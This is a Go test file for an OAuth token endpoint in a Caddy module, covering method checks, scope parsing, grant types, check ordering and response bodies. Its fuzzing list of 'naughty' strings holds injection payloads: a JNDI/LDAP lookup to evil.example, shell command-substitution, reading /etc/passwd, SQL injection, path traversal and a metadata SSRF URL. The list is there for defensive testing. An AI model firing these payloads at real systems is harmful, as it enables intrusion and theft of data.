package caddymodule

import (
	"encoding/json"
	"fmt"
	"net/http"
	"net/url"
	"strings"
	"testing"

	"github.com/gatehouse-auth/gatehouse/tokenissuer/store"
)

// These tests cover parsing at the token endpoint, and the form of its answers: rows T23 to T40, T43, T44 and T97 to
// T102. Rows about framing and time are in token_transport_test.go.

// TestT23T24OnlyPOST: GET, HEAD, PUT, PATCH, DELETE or `post` → 405 with `Allow: POST` and no side effect; a preflight from an
// unregistered origin → no CORS headers.
func TestT23T24OnlyPOST(t *testing.T) {
	d := openDoor(t, patient)
	d.decisions(t)
	refused := outcome{status: 405, code: "invalid_request", reason: "method_not_allowed"}
	for _, path := range []string{"/oauth/token", "/oauth/revoke", "/oauth/introspect"} {
		for _, method := range []string{"GET", "HEAD", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "QUERY", "post", "Post", "POSTX"} {
			t.Run(method+path, func(t *testing.T) {
				body := ccGrant + "&" + asConf
				if method == "TRACE" {
					body = ""
				}
				a := d.send(t, method, path, body, "Content-Type", urlEncoded,
					"Origin", "https://evil.example", "Access-Control-Request-Method", "POST")
				if method == "HEAD" {
					if a.status != 405 || a.body != "" || len(d.decisions(t)) != 1 {
						t.Errorf("%d %q", a.status, a.body)
					}
				} else {
					d.hold(t, a, refused)
				}
				if allow := a.header.Values("Allow"); len(allow) != 1 || allow[0] != "POST" {
					t.Errorf("Allow: %q", allow)
				}
			})
		}
	}
	// A browser gets no permission with a success either.
	d.hold(t, d.ask(t, "/oauth/token", ccGrant+"&"+asConf, "Origin", "https://evil.example"), granted())
	d.upstream.none(t)
}

// TestT34T35T66T105Scopes: `+` and `%20` separate scopes; a tab, NBSP, quote, 2,000 names, an escaped `+`, a user's or an unknown scope →
// invalid_scope; none → the default, never beyond what is registered; client_credentials never gets a refresh token.
func TestT34T35T66T105Scopes(t *testing.T) {
	d := openDoor(t, patient)
	form := ccGrant + "&" + asConf
	plus := outcome{400, "invalid_scope", "scope_unknown",
		"The requested scope is invalid, unknown, or malformed. A + that a form or a query has as %2B, and multipart or JSON as it is, is part of a name: separate names by spaces.", false}
	multi, multiType := multipartBody(confFields("scope", "public+orders.read")...)
	names := make([]string, 2000)
	for i := range names {
		names[i] = fmt.Sprint("s", i)
	}
	d.run(t, []tokenCase{
		{"T34 %2B", form + "&scope=public%2Borders.read", nil, plus},
		{"T34 + in multipart", multi, []string{"Content-Type", multiType}, plus},
		{"T34 + in JSON", jsonBody(confFields("scope", "public+orders.read")...), []string{"Content-Type", "application/json"}, plus},
		{"T35 a control that is no white space", form + "&scope=public%08orders.read", nil, badScope()},
		{"T35 NBSP", form + "&scope=public%C2%A0orders.read", nil, badScope()},
		{"T35 quote", form + "&scope=public%22", nil, badScope()},
		{"T35 backslash", form + "&scope=public%5C", nil, badScope()},
		{"T35 2000 names", form + "&scope=" + strings.Join(names, "+"), nil, badScope()},
		{"T35 one name 2000 times", form + "&scope=" + strings.Repeat("public+", 2000), nil, badScope()},
		{"T35 DEL", form + "&scope=public%7F", nil, badScope()},
		{"T35 comma", form + "&scope=public,orders.read", nil, badScope()},
		{"T66 trusted", form + "&scope=trusted", nil, badScope()},
		{"T66 trusted among others", form + "&scope=public+trusted", nil, badScope()},
		{"T66 refresh_token", form + "&scope=refresh_token", nil, badScope()},
		{"T66 offline_access", form + "&scope=public+offline_access", nil, badScope()},
		{"T66 unknown", form + "&scope=unknown", nil, badScope()},
		{"T66 other case", form + "&scope=Public", nil, badScope()},
		{"T66 openid", form + "&scope=openid", nil, badScope()},
		{"T105 beyond the client", ccGrant + "&client_id=other&client_secret=other-" + confSecret + "&scope=orders.read", nil, badScope()},
		{"T105 the default is no way round the ceiling", ccGrant + "&client_id=narrow&client_secret=narrow-" + confSecret, nil, badScope()},
	})
	for scope, want := range map[string]string{
		"":                                     "public",
		"public+orders.read":                   "public orders.read",
		"public%20orders.read":                 "public orders.read",
		"orders.read+public":                   "orders.read public",
		"orders.read+public+orders.read":       "orders.read public",
		"++public+++orders.read+":              "public orders.read",
		"orders.read":                          "orders.read",
		"orders.read" + strings.Repeat("+", 9): "orders.read",
		"public%09orders.read":                 "public orders.read",
		"%0Apublic%0D%0Aorders.read%0A":        "public orders.read",
		"public%0B%0Corders.read%09public":     "public orders.read",
	} {
		t.Run("granted "+scope, func(t *testing.T) {
			d.decisions(t)
			a := d.ask(t, "/oauth/token", form+"&scope="+scope)
			d.hold(t, a, granted())
			token, got := issued(t, a)
			if got != want {
				t.Errorf("scope %q, want %q", got, want)
			}
			if claim := claims(t, token)["scope"]; claim != want {
				t.Errorf("scope claim %q, want %q", claim, want)
			}
		})
	}
}

// naughty are strings that have broken other programs.
var naughty = []string{
	"undefined", "null", "true", "None", "hasOwnProperty", "constructor", "\\", "0", "-1", "1E02", "0/0", "NaN", "-Infinity", "0xffffffffffffffff", "123456789012345678901234567890123456789", "1,000.00",
	",./;'[]\\-=", "<>?:\"{}|_+", "!@#$%^&*()`~", "Ω≈ç√∫˜µ≤≥÷", "٠١٢٣٤٥٦٧٨٩", "ด้้้้้็็็็็้้้้้็็็็็", "'", "\"", "社會科學院語學研究所", "ﬁ", "İ", "ſ", "K", "ß", "e\u0301", "👩🏽", "👨‍👩‍👦", "🇺🇸🇷", "１２３", "﷽",
	"\u202etest\u202e", "\u200b", "\ufeff", "\ufffe", "\u2028", "\u0085", "\u00a0", "Ṱ̺̺̕o͞ ̷i̲̬͇̪͙n̝̗͕v̟̜̘̦͟o̶̙̰̠kè͚̮̺̪̹̱̤", "\U0010ffff", "<script>alert(1)</script>", "&lt;script&gt;", "\"><script>alert(1)</script>", "javascript:alert(1)",
	"${7*7}", "{{7*7}}", "<%= 7*7 %>", "${jndi:ldap://evil.example/a}", "{http.request.header.Authorization}", "{env.HOME}", "{file./etc/passwd}", "%s%s%s%s%n", "%!s(MISSING)", "$HOME", "`id`", "$(touch /tmp/x)", "; ls", "| cat /etc/passwd",
	"1'; DROP TABLE clients-- 1", "' OR '1'='1", "%", "_", "admin'--", "*)(uid=*))(|(uid=*", "{\"$ne\": null}", "[$ne]", "../../../../etc/passwd", "%2e%2e%2f", "file:///etc/passwd", "http://169.254.169.254/", "CON", "\\\\?\\",
	"() { 0; }; touch x", "O:8:\"stdClass\":0:{}", "!!python/object/apply:os.system", "Bearer eyJhbGciOiJub25lIn0.e30.", "Scunthorpe", "=cmd|' /C calc'!A0", "+1", "[]", "{}", "[object Object]",
	strings.Repeat("a", 5000), strings.Repeat("é", 3000), strings.Repeat("{", 2000), strings.Repeat("\"", 500), strings.Repeat("a ", 900),
}

// TestT40NaughtyStrings: a hundred naughty strings in each text parameter → no 5xx, and nothing reflected.
func TestT40NaughtyStrings(t *testing.T) {
	d := openDoor(t, patient)
	d.decisions(t)
	sent := 0
	for _, text := range naughty {
		for _, parameter := range []string{"grant_type", "client_id", "client_secret", "scope", "unknown"} {
			for _, e := range encodings {
				fields := confFields("scope", "public", "unknown", "x")
				for i := 0; i < len(fields); i += 2 {
					if fields[i] == parameter {
						fields[i+1] = text
					}
				}
				body, contentType := e.body(fields...)
				a := d.ask(t, "/oauth/token", body, "Content-Type", contentType)
				sent++
				status, code := 400, "invalid_request"
				switch parameter {
				case "grant_type":
					code = "unsupported_grant_type"
				case "client_id", "client_secret":
					status, code = 401, "invalid_client"
				case "scope":
					code = "invalid_scope"
				case "unknown":
					status, code = 200, ""
				}
				at := fmt.Sprintf("%s %s %.40q", e.name, parameter, text)
				if a.status != status {
					t.Errorf("%s: %d %s", at, a.status, a.body)
					continue
				}
				holdHeaders(t, a)
				if status == 200 {
					continue
				}
				sentence := contract[code]
				if parameter == "scope" && strings.Contains(text, "+") {
					sentence = ""
				}
				holdError(t, a, code, sentence)
				if len(text) > 12 && strings.Contains(a.body, text) {
					t.Errorf("%s is reflected in %s", at, a.body)
				}
			}
		}
	}
	// Basic, in both readings.
	for _, text := range naughty {
		for _, credential := range []string{text + ":x", "conf:" + text, url.QueryEscape(text) + ":x", text} {
			if len(credential) > 8000 {
				continue // more than the server takes for all headers
			}
			a := d.ask(t, "/oauth/token", ccGrant, basic(credential)...)
			sent++
			d.holdUnaudited(t, a, outcome{status: 401, code: "invalid_client", basic: true})
		}
	}
	// Beyond a thousand refusals a second the audit log is sampled, and the speed of this machine is unknown.
	if lines := d.decisions(t); len(lines) > sent || len(lines) < 1000 {
		t.Errorf("%d audit lines for %d requests", len(lines), sent)
	}
	if strings.Contains(d.logs(), "uid=0(root)") || strings.Contains(d.logs(), "root:x:0:0") {
		t.Error("a string was executed")
	}
}

// TestT43T44T104GrantTypes: no grant_type → invalid_request; an unknown or misspelled one → unsupported_grant_type; one that this client
// may not use, client_credentials of a public client (T67) → unauthorized_client.
func TestT43T44T104GrantTypes(t *testing.T) {
	d := openDoor(t, patient)
	unsupported := outcome{status: 400, code: "unsupported_grant_type", reason: "grant_type_unknown"}
	cases := []tokenCase{
		{"T43 missing", asConf, nil, missing("grant_type")},
		{"T43 missing, by Basic", "scope=public", basic("conf:" + confSecret), missing("grant_type")},
		{"T44 not this client's", ccGrant + "&client_id=legacy&client_secret=legacy-" + confSecret, nil,
			outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T44 not this client's, by Basic", ccGrant, basic("legacy:legacy-" + confSecret),
			outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T67 token exchange without a rule", "grant_type=urn:ietf:params:oauth:grant-type:token-exchange&" + asConf, nil,
			outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T67 public client", ccGrant + "&client_id=pub", nil, outcome{status: 400, code: "unauthorized_client", reason: "grant_not_allowed"}},
		{"T67 public client registered for it", ccGrant + "&client_id=openpub", nil,
			outcome{status: 400, code: "unauthorized_client", reason: "client_is_public"}},
		{"T104 password is off, no client", "grant_type=password&email=a@b.example&password=x", nil, unsupported},
		{"T104 password is off, wrong client", "grant_type=password&email=a@b.example&password=x&client_id=conf&client_secret=x", nil, unsupported},
	}
	for _, grant := range []string{
		"foo", "Authorization_Code", "Client_Credentials", "client_credentials ", " client_credentials", "client-credentials",
		"password", "implicit", "urn:ietf:params:oauth:grant-type:device_code",
		"urn:ietf:params:oauth:grant-type:jwt-bearer", "client_credentials,password", "client_credentials\u00a0",
	} {
		cases = append(cases, tokenCase{"T43 " + grant, "grant_type=" + url.QueryEscape(grant) + "&" + asConf, nil, unsupported})
	}
	d.run(t, cases)
}

// TestT68AServerTokenIsOneWhateverItsName: a client whose id is `admin` or an e-mail address → its tokens are server tokens without a user.
func TestT68AServerTokenIsOneWhateverItsName(t *testing.T) {
	d := openDoor(t, patient)
	for id, secret := range map[string]string{"admin": "admin-" + confSecret, "ada@acme.example": d.register(t, store.Client{ID: "ada@acme.example"})} {
		token, _ := issued(t, d.ask(t, "/oauth/token", ccGrant, basic(url.QueryEscape(id)+":"+secret)...))
		claim := claims(t, token)
		if claim["sub"] != id || claim["client_id"] != id {
			t.Errorf("sub %v, client_id %v", claim["sub"], claim["client_id"])
		}
		for _, absent := range []string{"sid", "org", "role", "auth_time", "act"} {
			if claim[absent] != nil {
				t.Errorf("%s: %v", absent, claim[absent])
			}
		}
		if a := d.send(t, http.MethodGet, "/api/x", "", "Authorization", "Bearer "+token); a.status != http.StatusForbidden {
			t.Errorf("a route for trusted: %d", a.status)
		}
		d.upstream.none(t)
		if a := d.send(t, http.MethodGet, "/oauth/token/info", "", "Authorization", "Bearer "+token); !strings.Contains(a.body, `"resource_owner_id":null`) {
			t.Errorf("info: %s", a.body)
		}
		if a := d.send(t, http.MethodGet, "/any/x", "", "Authorization", "Bearer "+token); a.status != http.StatusOK {
			t.Fatalf("the gate: %d", a.status)
		}
		seen := d.upstream.one(t)
		if seen.Header.Get("X-Auth-Subject") != id || seen.Header["X-Auth-Role"] != nil || seen.Header["X-Auth-Organisation"] != nil {
			t.Errorf("the upstream saw %v", seen.Header)
		}
	}
}

// TestT99TheOrderOfChecks: an unknown client with a dead refresh token, a wrong secret with a used code → invalid_client, never
// invalid_grant; a wrong secret with an unknown grant type → unsupported_grant_type. Nothing about a grant is said to somebody who has
// not proved which client they are, and a client that is gone hears so.
func TestT99TheOrderOfChecks(t *testing.T) {
	d := openDoor(t, patient)
	unsupported := outcome{status: 400, code: "unsupported_grant_type"}
	d.run(t, []tokenCase{
		{"media type before everything", "grant_type=foo&client_id=nobody", []string{"Content-Type", "text/plain"}, malformed("content_type_unsupported")},
		{"duplicates before the grant type", "a=1&a=2", nil, malformed("parameter_duplicate")},
		{"duplicates before two mechanisms", ccGrant + "&" + asConf + "&a=1&a=2", basic("conf:" + confSecret), malformed("parameter_duplicate")},
		{"grant type before the client", "client_id=nobody&client_secret=x", nil, missing("grant_type")},
		{"unknown grant type before the client", "grant_type=foo&client_id=conf&client_secret=wrong", nil, unsupported},
		{"unknown grant type before two mechanisms", "grant_type=foo&" + asConf, basic("conf:" + confSecret), unsupported},
		{"two mechanisms before the client", ccGrant + "&client_id=nobody&client_secret=x", basic("nobody:x"), twoMechanisms()},
		{"client before its grants", ccGrant + "&client_id=legacy&client_secret=wrong", nil, badClient("client_authentication_failed")},
		{"client before the scope", ccGrant + "&client_id=conf&client_secret=wrong&scope=%22", nil, badClient("client_authentication_failed")},
		{"grants before the scope", ccGrant + "&client_id=legacy&client_secret=legacy-" + confSecret + "&scope=%22", nil,
			outcome{status: 400, code: "unauthorized_client"}},
		{"the scope last", ccGrant + "&" + asConf + "&scope=%22", nil, badScope()},
	})
	// At the neighbours too: the client before the token.
	for _, path := range []string{"/oauth/revoke", "/oauth/introspect"} {
		d.decisions(t)
		d.hold(t, d.ask(t, path, "client_id=conf&client_secret=wrong"), badClient("client_authentication_failed"))
		d.hold(t, d.ask(t, path, ""), outcome{status: 400, code: "invalid_request", reason: "content_type_missing"})
		d.hold(t, d.ask(t, path, "token=x"), badClient("client_credentials_missing"))
		d.hold(t, d.ask(t, path, asConf), missing("token"))
		d.hold(t, d.ask(t, path, asConf+"&token="), missing("token"))
	}
}

// TestT100T102ChallengesOnlyWhereTheyBelong: 401 after Basic → a Basic challenge; 401 after body credentials, and any 400 → none; error
// bodies hold exactly `error` and `error_description`. With a challenge on a 400 common clients lose the typed error. What an error body
// is, is held by each refusal of these files.
func TestT100T102ChallengesOnlyWhereTheyBelong(t *testing.T) {
	d := openDoor(t, patient)
	d.run(t, []tokenCase{
		{"401 to Basic", ccGrant, basic("conf:wrong"), badBasic("client_authentication_failed")},
		{"401 to body credentials", ccGrant + "&client_id=conf&client_secret=wrong", nil, badClient("client_authentication_failed")},
		{"401 to nothing", ccGrant, nil, badClient("client_credentials_missing")},
		{"400 with Basic", "grant_type=foo", basic("conf:" + confSecret), outcome{status: 400, code: "unsupported_grant_type"}},
		{"400 with wrong Basic", "grant_type=foo", basic("conf:wrong"), outcome{status: 400, code: "unsupported_grant_type"}},
		{"400 for the scope with Basic", ccGrant + "&scope=unknown", basic("conf:" + confSecret), badScope()},
		{"400 for two headers", ccGrant, append(basic("conf:wrong"), basic("conf:wrong")...), malformed("authorization_header_duplicate")},
	})
}

// TestT101TheSuccessBody: the success answer of a grant → 200, members in the documented order, scope always there, absent ones omitted,
// expires_in in whole seconds. Those of a user's are held by tokensIn, for every grant.
func TestT101TheSuccessBody(t *testing.T) {
	d := openDoor(t, strings.Replace(patient, "client other other-SECRET {", "client other other-SECRET {\n\t\t\ttokens {\n\t\t\t\tclient_credentials 10s\n\t\t\t}", 1))
	for _, e := range encodings {
		body, contentType := e.body(confFields("scope", "orders.read public", "state", "xyz")...)
		a := d.ask(t, "/oauth/token", body, "Content-Type", contentType, "Accept", "text/html")
		token, scope := issued(t, a)
		if scope != "orders.read public" {
			t.Errorf("scope %q", scope)
		}
		claim := claims(t, token)
		var answered struct {
			CreatedAt float64 `json:"created_at"`
		}
		if err := json.Unmarshal([]byte(a.body), &answered); err != nil {
			t.Fatal(err)
		}
		iat, _ := claim["iat"].(float64)
		exp, _ := claim["exp"].(float64)
		if iat != answered.CreatedAt || exp != iat+7200 {
			t.Errorf("iat %v, exp %v, created_at %v", iat, exp, answered.CreatedAt)
		}
		for name, want := range map[string]any{"iss": d.url, "sub": "conf", "client_id": "conf", "aud": d.url} {
			if claim[name] != want {
				t.Errorf("%s: %v, want %v", name, claim[name], want)
			}
		}
		if len(claim) != 8 { // these, scope, iat, exp, jti
			t.Errorf("claims %v", claim)
		}
	}
	a := d.ask(t, "/oauth/token", ccGrant, basic("other:other-"+confSecret)...)
	if !strings.Contains(a.body, `"expires_in":10,"scope":"public","created_at":`) {
		t.Errorf("a client's own lifetime: %s", a.body)
	}
}
